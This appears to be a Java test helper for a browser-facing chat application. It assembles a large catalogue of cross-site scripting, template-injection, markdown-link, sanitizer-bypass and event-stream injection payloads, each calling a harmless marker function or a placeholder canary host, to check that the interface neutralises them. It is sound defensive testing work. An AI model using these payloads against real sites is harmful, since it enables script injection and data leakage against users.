package dev.firstline.browser;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// What attackers write where text is expected. Every script in it calls `__ran()`, and every foreign address is the
/// canary's.
final class Payloads {

    /// Says which word finds every batch.
    static final String WORD = "zorbing";

    static final List<String> TEMPLATE_EXPRESSIONS =
            List.of(
                    "{{7*7}}",
                    "${7*7}",
                    "#{7*7}",
                    "{7*7}",
                    "<%= 7*7 %>",
                    "{#for n in 7}{n}{/for}",
                    "{inject:brand.name}",
                    "{cdi:brand.name}",
                    "{#include layout/page /}",
                    "{|7*7|}",
                    "{{constructor.constructor('__ran()')()}}");

    /// A message may have 4000 characters; a form turns each line break into two.
    private static final int BATCH_LENGTH_MAX = 3_500;

    private static final List<String> ELEMENTS =
            List.of(
                    "<script>__ran()</script>",
                    "<script src=//CANARY/s.js></script>",
                    "<img src=x onerror=__ran()>",
                    "<img src=//CANARY/i.png>",
                    "<svg onload=__ran()>",
                    "<svg><script>__ran()</script></svg>",
                    "<svg><image href=//CANARY/v.png /></svg>",
                    "<svg><animate onbegin=__ran() attributeName=x dur=1s>",
                    "<iframe srcdoc='<script>parent.__ran()</script>'></iframe>",
                    "<iframe src=javascript:parent.__ran()></iframe>",
                    "<object data=//CANARY/o></object>",
                    "<embed src=//CANARY/e>",
                    "<body onload=__ran()>",
                    "<details open ontoggle=__ran()>",
                    "<video><source onerror=__ran()></video>",
                    "<video poster=//CANARY/p.png></video>",
                    "<audio src=//CANARY/a.mp3 autoplay></audio>",
                    "<input autofocus onfocus=__ran()>",
                    "<math href=javascript:__ran()>x</math>",
                    "<style>@import '//CANARY/c.css';</style>",
                    "<style>@keyframes k{}</style><b style=animation-name:k"
                            + " onanimationstart=__ran()>",
                    "<b style=background:url(//CANARY/b.png)>x</b>",
                    "<link rel=stylesheet href=//CANARY/l.css>",
                    "<link rel=preload as=image href=//CANARY/p.png>",
                    "<link rel=preconnect href=//CANARY>",
                    "<base href=//CANARY/>",
                    "<meta http-equiv=refresh content='0;url=//CANARY/m'>",
                    "<form action=//CANARY/f><button>Go",
                    "<button formaction=javascript:__ran()>Go",
                    "<a href=/ ping=//CANARY/g>x</a>",
                    "<div hx-get=//CANARY/h hx-trigger=load>x</div>",
                    "<div hx-on::load=__ran() data-hx-get=/ data-hx-trigger=load>x</div>",
                    "<img src=x onerror=__ran()//");

    /// How an element gets out of where it stands.
    private static final List<String> CARRIERS =
            List.of(
                    "%s",
                    "\"'>%s",
                    "</textarea></title></script></style>%s",
                    "<!--><p -->%s",
                    "**`%s`** _%s_");

    private static final List<String> ADDRESSES =
            List.of(
                    "javascript:__ran()",
                    "JaVaScRiPt:__ran()",
                    "java\tscript:__ran()",
                    "java\nscript:__ran()",
                    "\u0001javascript:__ran()",
                    "\u00a0javascript:__ran()",
                    "javascript&colon;__ran()",
                    "&#106;avascript:__ran()",
                    "&#x6A;avascript&#58;__ran()",
                    "javascript&Tab;:__ran()",
                    "javascript:%5f_ran()",
                    "javascript://%0a__ran()",
                    "java\\script:__ran()",
                    "vbscript:__ran()",
                    "data:text/html,<script>__ran()</script>",
                    "data:text/html;base64,PHNjcmlwdD5fX3JhbigpPC9zY3JpcHQ+",
                    "blob:null/__ran()",
                    "//CANARY/u",
                    "/\\CANARY/u",
                    "https://CANARY/u\"onmouseover=\"__ran()");

    private static final List<String> LINKS =
            List.of(
                    "[go](%s)",
                    "![see](%s)",
                    "[go](<%s> \"x\")",
                    "<%s>",
                    "[go][r%d]\n\n[r%d]: %s",
                    "<a href=\"%s\">go</a>");

    private static final List<String> ODDITIES =
            List.of(
                    "<noscript><p title=\"</noscript><img src=x onerror=__ran()>\">",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x"
                            + " onerror=__ran()>\">",
                    "<svg></p><style><a id=\"</style><img src=x onerror=__ran()>\">",
                    "<form><math><mtext></form><form><mglyph><style></math><img src=x"
                            + " onerror=__ran()>",
                    "<svg><![CDATA[><img src=x onerror=__ran()>]]>",
                    "<template><script>__ran()</script></template>",
                    "<scr<script>ipt>__ran()</scr</script>ipt>",
                    "<ScRiPt\n>__ran()</sCrIpT\n>",
                    "<img/src='x'/onerror=__ran()>",
                    "<<img src=x onerror=__ran()>",
                    "&lt;img src=x onerror=__ran()&gt;",
                    "%3Cimg src=x onerror=__ran()%3E",
                    "\uff1cimg src=x onerror=__ran()\uff1e",
                    "\\<img src=x onerror=__ran()\\>",
                    "```html\n```</code></pre><img src=x onerror=__ran()>",
                    "[a]: //CANARY/r\n![a][]",
                    "![a](//CANARY/m.png \"t\"onerror=\"__ran()\")",
                    "[1](javascript:__ran())[1]",
                    "[**[`x`](javascript:__ran())**](//CANARY/n)",
                    "https://CANARY/auto www.CANARY/auto",
                    "# <img src=x onerror=__ran()>",
                    "| <img src=x onerror=__ran()> | b |\n|---|---|\n| ![](//CANARY/t) | d |",
                    "\r\n\r\nevent: gap\r\ndata: {\"text\":\"<img src=x onerror=__ran()>\"}\r\n",
                    "\n\nid: 999999\nevent: gap\ndata: {}\n",
                    "\revent: resolved\rdata: {\"agent\":\"x\"}\r",
                    "\u2028event: gap\u2028data: {}\u2029<img src=x onerror=__ran()>",
                    "\u202e<img src=x onerror=__ran()>\u202c");

    private final List<String> all;

    /// @param canary host and port that must never be called
    Payloads(String canary) {
        all =
                Stream.of(elements(), links(), ODDITIES.stream(), TEMPLATE_EXPRESSIONS.stream())
                        .flatMap(payloads -> payloads)
                        .map(payload -> payload.replace("CANARY", canary))
                        .toList();
    }

    List<String> all() {
        return all;
    }

    /// All of them, each a paragraph, in texts that fit into messages.
    ///
    /// @param name tells these batches from others, each begins with it and its number
    List<String> batches(String name) {
        var batches = new ArrayList<String>();
        var batch = new StringBuilder(opening(name, 0));
        for (String payload : all) {
            if (batch.length() + payload.length() > BATCH_LENGTH_MAX) {
                batches.add(batch.toString());
                batch = new StringBuilder(opening(name, batches.size()));
            }
            batch.append("\n\n").append(payload);
        }
        batches.add(batch + "\n\nend of " + name);
        return batches;
    }

    private static String opening(String name, int number) {
        return WORD + " " + name + " " + number;
    }

    private static Stream<String> elements() {
        return CARRIERS.stream()
                .flatMap(carrier ->
                        ELEMENTS.stream().map(element -> carrier.replace("%s", element)));
    }

    private static Stream<String> links() {
        return LINKS.stream()
                .flatMap(link -> ADDRESSES.stream().map(address -> link(link, address)));
    }

    private static String link(String link, String address) {
        String number = Integer.toString(ADDRESSES.indexOf(address));
        return link.replace("%d", number).replace("%s", address);
    }
}
